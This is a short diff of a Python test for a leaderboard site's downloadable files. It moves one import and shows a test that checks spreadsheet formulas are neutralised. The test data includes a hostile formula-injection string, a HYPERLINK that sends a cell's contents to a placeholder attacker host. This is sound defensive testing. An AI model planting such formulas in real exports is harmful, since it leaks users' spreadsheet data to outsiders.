@@ -219,7 +219,7 @@ def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -
     negative score stays a number, and the tests against the leader are there."""
     import json
 
-    from leaderboard.publish.site.render import write_downloads
+    from leaderboard.publish.site.downloads import write_downloads
 
     a, b = _uneven_pair()
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
